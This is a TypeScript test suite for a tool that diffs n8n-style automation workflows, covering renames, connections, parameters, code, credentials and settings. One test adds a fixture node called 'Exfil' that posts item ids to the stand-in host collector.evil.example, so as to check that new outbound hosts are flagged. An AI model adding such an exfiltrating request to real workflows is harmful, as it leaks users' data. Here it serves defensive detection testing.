import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { WorkflowDocument, WorkflowNode } from "./document";
import { diffWorkflows, type WorkflowChange } from "./diff-workflows";
import { formatDiff } from "./format-diff";

const base = (): WorkflowDocument => JSON.parse(readFileSync(join(__dirname, "__fixtures__/diff/base.json"), "utf8")) as WorkflowDocument;
const nodeOf = (doc: WorkflowDocument, name: string): WorkflowNode => doc.nodes.find((n) => n.name === name) as WorkflowNode;
const kinds = (changes: readonly WorkflowChange[]) => changes.map((c) => c.kind);

/** Renames a node the way the builder does: name, connections, pinData and expression references. */
function renameEverywhere(doc: WorkflowDocument, from: string, to: string): WorkflowDocument {
  const text = JSON.stringify(doc)
    .split(`"${from}"`).join(`"${to}"`)
    .split(`$('${from}')`).join(`$('${to}')`)
    .split(`$node[\\"${from}\\"]`).join(`$node[\\"${to}\\"]`);
  return JSON.parse(text) as WorkflowDocument;
}

describe("diffWorkflows", () => {
  it("gives an empty diff for identical documents, whatever the key order and whitespace", () => {
    const reverseKeys = (value: unknown): unknown =>
      Array.isArray(value)
        ? value.map(reverseKeys)
        : value !== null && typeof value === "object"
          ? Object.fromEntries(Object.entries(value).reverse().map(([k, v]) => [k, reverseKeys(v)]))
          : value;
    const reordered = JSON.parse(JSON.stringify(reverseKeys(base()), null, 4)) as WorkflowDocument;
    expect(Object.keys(reordered)[0]).toBe("tags");
    expect(diffWorkflows(base(), base()).changes).toEqual([]);
    expect(diffWorkflows(reordered, base()).changes).toEqual([]);
    expect(formatDiff(diffWorkflows(base(), base()))).toBe("No changes.");
  });

  it("shows a rename that rewrites connections, pinData and expressions as one rename", () => {
    const after = renameEverywhere(base(), "Fetch", "Get orders");
    expect(diffWorkflows(base(), after).changes).toEqual([{ kind: "nodeRenamed", from: "Fetch", to: "Get orders" }]);
    expect(formatDiff(diffWorkflows(base(), after))).toBe('Nodes\n  ~ renamed "Fetch" → "Get orders"');
  });

  it("handles two nodes swapping names", () => {
    let after = renameEverywhere(base(), "Shape", "__tmp");
    after = renameEverywhere(after, "Tag", "Shape");
    after = renameEverywhere(after, "__tmp", "Tag");
    expect(kinds(diffWorkflows(base(), after).changes)).toEqual(["nodeRenamed", "nodeRenamed"]);
  });

  it("reports added and removed nodes with their connections", () => {
    const after = base();
    after.nodes = after.nodes.filter((n) => n.name !== "Shape");
    after.nodes.push({ id: "n9", name: "Log", type: "n8n-nodes-base.noOp", typeVersion: 1, position: [660, 200], parameters: {} });
    delete after.connections.Shape;
    after.connections.Route!.main![0] = [{ node: "Log", type: "main", index: 0 }];
    const { changes } = diffWorkflows(base(), after);
    expect(changes).toEqual([
      { kind: "nodeRemoved", node: "Shape", type: "n8n-nodes-base.code" },
      { kind: "nodeAdded", node: "Log", type: "n8n-nodes-base.noOp" },
      { kind: "connectionRemoved", connection: expect.objectContaining({ source: "Route", target: "Shape" }) },
      { kind: "connectionRemoved", connection: expect.objectContaining({ source: "Shape", target: "Tag" }) },
      { kind: "connectionAdded", connection: expect.objectContaining({ source: "Route", outputIndex: 0, target: "Log" }) },
    ]);
    expect(formatDiff({ changes })).toContain('  + "Route" output 0 → "Log" input 0');
  });

  it("shows position-only moves apart, as cosmetic", () => {
    const after = base();
    nodeOf(after, "Route").position = [440, 120];
    const diff = diffWorkflows(base(), after);
    expect(diff.changes).toEqual([{ kind: "nodeMoved", node: "Route", from: [440, 0], to: [440, 120] }]);
    expect(formatDiff(diff)).toBe('Cosmetic (positions only)\n  "Route" moved [440, 0] → [440, 120]');
  });

  it("reports parameter changes by path with old and new values", () => {
    const after = base();
    (nodeOf(after, "Route").parameters.rules as { values: Array<{ outputKey: string }> }).values[1]!.outputKey = "pending";
    (nodeOf(after, "Fetch").parameters.options as Record<string, unknown>).timeout = 5000;
    expect(diffWorkflows(base(), after).changes).toEqual([
      { kind: "parameterChanged", node: "Fetch", path: "options.timeout", old: undefined, new: 5000 },
      { kind: "parameterChanged", node: "Route", path: "rules.values[1].outputKey", old: "open", new: "pending" },
    ]);
    expect(formatDiff(diffWorkflows(base(), after))).toContain('"Route" rules.values[1].outputKey: "open" → "pending"');
  });

  it("diffs Code node source line by line", () => {
    const after = base();
    nodeOf(after, "Shape").parameters.jsCode = "const out = [];\nfor (const item of $input.all()) {\n  out.push({ json: { id: item.json.id, total: item.json.total } });\n}\nreturn out;";
    const { changes } = diffWorkflows(base(), after);
    expect(changes).toHaveLength(1);
    const change = changes[0] as Extract<WorkflowChange, { kind: "codeChanged" }>;
    expect(change).toMatchObject({ kind: "codeChanged", node: "Shape", path: "jsCode" });
    expect(change.lines.filter((l) => l.kind !== "equal")).toEqual([
      { kind: "remove", line: "  out.push({ json: { id: item.json.id } });" },
      { kind: "add", line: "  out.push({ json: { id: item.json.id, total: item.json.total } });" },
    ]);
    expect(formatDiff({ changes })).toContain("      -   out.push({ json: { id: item.json.id } });\n      +   out.push(");
  });

  it("reports connection changes after mapping renames", () => {
    const after = renameEverywhere(base(), "Tag", "Label");
    after.connections.Route!.main![1] = [];
    const { changes } = diffWorkflows(base(), after);
    expect(kinds(changes)).toEqual(["nodeRenamed", "connectionRemoved"]);
    expect(changes[1]).toMatchObject({ connection: { source: "Route", outputIndex: 1, target: "Label" } });
  });

  it("reports settings, credential, node field and workflow field changes", () => {
    const after = base();
    after.settings = { executionOrder: "v1", timezone: "Europe/Berlin", errorWorkflow: "w9" };
    nodeOf(after, "Fetch").credentials = { httpHeaderAuth: { id: "c2", name: "Shop key (prod)" } };
    nodeOf(after, "Tag").disabled = true;
    after.name = "Orders v2";
    expect(diffWorkflows(base(), after).changes).toEqual([
      { kind: "credentialChanged", node: "Fetch", credentialType: "httpHeaderAuth", old: { id: "c1", name: "Shop key" }, new: { id: "c2", name: "Shop key (prod)" } },
      { kind: "nodeFieldChanged", node: "Tag", field: "disabled", old: undefined, new: true },
      { kind: "settingChanged", key: "timezone", old: "UTC", new: "Europe/Berlin" },
      { kind: "settingChanged", key: "errorWorkflow", old: undefined, new: "w9" },
      { kind: "workflowFieldChanged", field: "name", old: "Orders", new: "Orders v2" },
    ]);
  });

  it("flags outbound hosts that appear for the first time, including expression prefixes", () => {
    const after = base();
    nodeOf(after, "Fetch").parameters.url = "https://api.shop.example/orders?page=2";
    after.nodes.push({ id: "h2", name: "Exfil", type: "n8n-nodes-base.httpRequest", typeVersion: 4.2, position: [0, 300], parameters: { url: "=https://collector.evil.example/{{ $json.id }}" } });
    after.nodes.push({ id: "h3", name: "Dynamic", type: "n8n-nodes-base.httpRequest", typeVersion: 4.2, position: [0, 500], parameters: { url: "={{ $json.target }}" } });
    const { changes } = diffWorkflows(base(), after);
    expect(changes.filter((c) => c.kind === "outboundHostAdded")).toEqual([{ kind: "outboundHostAdded", host: "collector.evil.example", node: "Exfil" }]);
    expect(formatDiff({ changes }).startsWith('New outbound hosts\n  ! collector.evil.example (first called by "Exfil")')).toBe(true);
  });

  it("matches nodes without ids by name", () => {
    const before = base();
    const after = base();
    for (const doc of [before, after]) for (const n of doc.nodes) delete n.id;
    nodeOf(after, "Tag").typeVersion = 3.3;
    expect(diffWorkflows(before, after).changes).toEqual([{ kind: "nodeFieldChanged", node: "Tag", field: "typeVersion", old: 3.4, new: 3.3 }]);
  });

  it("reports pinned data changes", () => {
    const after = base();
    after.pinData = { Fetch: [{ json: { id: 1 } }, { json: { id: 2 } }] };
    const diff = diffWorkflows(base(), after);
    expect(kinds(diff.changes)).toEqual(["pinDataChanged"]);
    expect(formatDiff(diff)).toBe('Pinned data\n  "Fetch": 1 item → 2 items');
  });
});
